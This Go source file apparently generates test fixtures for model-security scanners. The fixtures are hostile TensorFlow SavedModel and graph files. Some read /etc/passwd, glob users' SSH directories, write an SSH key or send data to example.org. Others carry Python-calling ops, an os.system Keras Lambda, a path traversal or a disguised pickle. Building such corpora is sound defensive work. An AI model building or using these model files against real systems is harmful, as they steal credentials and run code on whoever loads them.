package main

// tfNode is a node of a TensorFlow graph.
func tfNode(name, op string, inputs []string, attributes ...proto) proto {
	p := proto{}.str(1, name).str(2, op)
	for _, i := range inputs {
		p = p.str(3, i)
	}
	for _, a := range attributes {
		p = p.bin(5, a)
	}
	return p
}

func tfAttr(key string, value proto) proto { return proto{}.str(1, key).bin(2, value) }

// tfText is a constant of text.
func tfText(name, s string) proto {
	t := proto{}.num(1, 7).bin(2, nil).str(8, s)
	return tfNode(name, "Const", nil, tfAttr("dtype", proto{}.num(6, 7)), tfAttr("value", proto{}.bin(8, t)))
}

func tfGraph(nodes ...proto) proto {
	var p proto
	for _, n := range nodes {
		p = p.bin(1, n)
	}
	return p
}

func savedModel(g proto, more ...proto) proto {
	info := proto{}.str(4, "serve").str(5, "2.15.0")
	meta := proto{}.bin(1, info).bin(2, g)
	for _, m := range more {
		meta = append(meta, m...)
	}
	return proto{}.num(1, 1).bin(2, meta)
}

// inFunction puts nodes into a function of the library, which is where traced models keep them.
func inFunction(nodes ...proto) proto {
	f := proto{}.bin(1, proto{}.str(1, "__inference_f_1"))
	for _, n := range nodes {
		f = f.bin(3, n)
	}
	return tfGraph(tfNode("call", "StatefulPartitionedCall", nil)).bin(2, proto{}.bin(1, f))
}

func tensorflowFiles(c *corpus) {
	const abuse = "TensorAbuse (ZJU-SEC); TFLOW-MALOPS (JFrog)"
	file := tfText("path", "/tmp/lodemark-corpus")
	ops := []struct {
		op    string
		nodes []proto
	}{
		{"WriteFile", []proto{file, tfText("x", "ssh-ed25519 AAAA"), tfNode("op", "WriteFile", []string{"path", "x"})}},
		{"ReadFile", []proto{tfText("path", "/etc/passwd"), tfNode("op", "ReadFile", []string{"path"})}},
		{"MatchingFiles", []proto{tfText("path", "/home/*/.ssh/*"), tfNode("op", "MatchingFiles", []string{"path"})}},
		{"PyFunc", []proto{tfNode("op", "PyFunc", nil, tfAttr("token", proto{}.str(2, "pyfunc_0")))}},
		{"EagerPyFunc", []proto{tfNode("op", "EagerPyFunc", nil, tfAttr("token", proto{}.str(2, "pyfunc_0")))}},
		{"PyFuncStateless", []proto{tfNode("op", "PyFuncStateless", nil, tfAttr("token", proto{}.str(2, "pyfunc_0")))}},
		{"MergeV2Checkpoints", []proto{file, tfNode("op", "MergeV2Checkpoints", []string{"path", "path"})}},
		{"Save", []proto{file, tfNode("op", "Save", []string{"path"})}},
		{"SaveSlices", []proto{file, tfNode("op", "SaveSlices", []string{"path"})}},
		{"PrintV2", []proto{file, tfNode("op", "PrintV2", []string{"path"}, tfAttr("output_stream", proto{}.str(2, "file:///tmp/lodemark-corpus")))}},
		{"DebugIdentityV3", []proto{file, tfNode("op", "DebugIdentityV3", []string{"path"}, tfAttr("debug_urls", proto{}.bin(1, proto{}.str(2, "grpc://example.org:80"))))}},
		{"RpcClient", []proto{tfNode("op", "RpcClient", []string{"path"}), file}},
		{"DataServiceDatasetV4", []proto{tfText("path", "grpc://example.org:5000"), tfNode("op", "DataServiceDatasetV4", []string{"path"})}},
		{"RegisterDatasetV2", []proto{tfText("path", "grpc://example.org:5000"), tfNode("op", "RegisterDatasetV2", []string{"path"})}},
		{"TextLineDataset", []proto{tfText("path", "/etc/passwd"), tfNode("op", "TextLineDataset", []string{"path"})}},
		{"FixedLengthRecordDatasetV2", []proto{tfText("path", "/etc/passwd"), tfNode("op", "FixedLengthRecordDatasetV2", []string{"path"})}},
		{"TFRecordDataset", []proto{tfText("path", "/etc/passwd"), tfNode("op", "TFRecordDataset", []string{"path"})}},
		{"SqlDataset", []proto{tfText("path", "/etc/corpus.db"), tfNode("op", "SqlDataset", []string{"path"})}},
		{"WholeFileReaderV2", []proto{tfNode("op", "WholeFileReaderV2", nil)}},
		{"InitializeTableFromTextFileV2", []proto{tfText("path", "/etc/passwd"), tfNode("op", "InitializeTableFromTextFileV2", []string{"path"})}},
		{"CreateSummaryFileWriter", []proto{file, tfNode("op", "CreateSummaryFileWriter", []string{"path"})}},
		{"SaveDatasetV2", []proto{file, tfNode("op", "SaveDatasetV2", []string{"path"})}},
		{"LoadDataset", []proto{file, tfNode("op", "LoadDataset", []string{"path"})}},
		{"DecodeProtoV2", []proto{tfNode("op", "DecodeProtoV2", nil, tfAttr("descriptor_source", proto{}.str(2, "/etc/hostname")))}},
		{"CacheDatasetV2", []proto{file, tfNode("op", "CacheDatasetV2", []string{"path"})}},
		{"EvilShellOp", []proto{tfText("path", cmd), tfNode("op", "EvilShellOp", []string{"path"})}},
	}
	for i, o := range ops {
		g := tfGraph(o.nodes...)
		if i%2 == 1 {
			g = inFunction(o.nodes...)
		}
		c.hostileFolder("tensorflow", "op "+o.op, abuse, map[string][]byte{"saved_model/saved_model.pb": savedModel(g)})
	}
	write := ops[0].nodes
	c.hostile("tensorflow", "frozen graph writes", abuse, "frozen_graph.pb", tfGraph(write...))
	c.hostile("tensorflow", "frozen graph reads", abuse, "graph.pb", tfGraph(ops[1].nodes...))
	c.hostile("tensorflow", "frozen graph calls Python", abuse, "model.pb", tfGraph(ops[3].nodes...))
	c.hostile("tensorflow", "MetaGraph writes", "modelaudit MetaGraph tests", "model.ckpt.meta", proto{}.bin(1, proto{}.str(5, "1.15.0")).bin(2, tfGraph(write...)))
	c.hostile("tensorflow", "MetaGraph calls Python", "modelaudit MetaGraph tests", "model.meta", proto{}.bin(1, proto{}.str(5, "1.15.0")).bin(2, inFunction(ops[4].nodes...)))
	nested := tfNode("ds", "DatasetFromGraph", []string{"path"})
	text := tfGraph(write...)
	c.hostileFolder("tensorflow", "graph in a constant", "nested DatasetFromGraph WriteFile (public proof of concept against modelscan)", map[string][]byte{"saved_model.pb": savedModel(tfGraph(tfText("path", string(text)), nested))})
	c.hostileFolder("tensorflow", "asset elsewhere", "SavedModel asset files", map[string][]byte{"saved_model.pb": savedModel(tfGraph(tfText("x", "y")), proto{}.bin(6, proto{}.bin(1, proto{}.str(1, "asset:0")).str(2, "../../../etc/passwd")))})
	layer := proto{}.bin(1, proto{}.num(1, 2).str(2, "root.layer-1").str(3, "_tf_keras_layer").str(4, lambda2("3.8", "os", "system")))
	c.hostileFolder("tensorflow", "Lambda in Keras metadata", "TFLOW-LAMBDA (JFrog)", map[string][]byte{"saved_model.pb": savedModel(tfGraph(tfText("x", "y"))), "keras_metadata.pb": layer})
	c.hostileFolder("tensorflow", "custom kernels beside it", "TensorFlow assets.extra", map[string][]byte{"saved_model.pb": savedModel(tfGraph(tfNode("op", "EvilCustomOp", nil))), "assets.extra/ops.so": elf()})
	c.hostile("tensorflow", "pickle under its name", "picklescan CVE-2025-10155", "saved_model.pb", system())
}
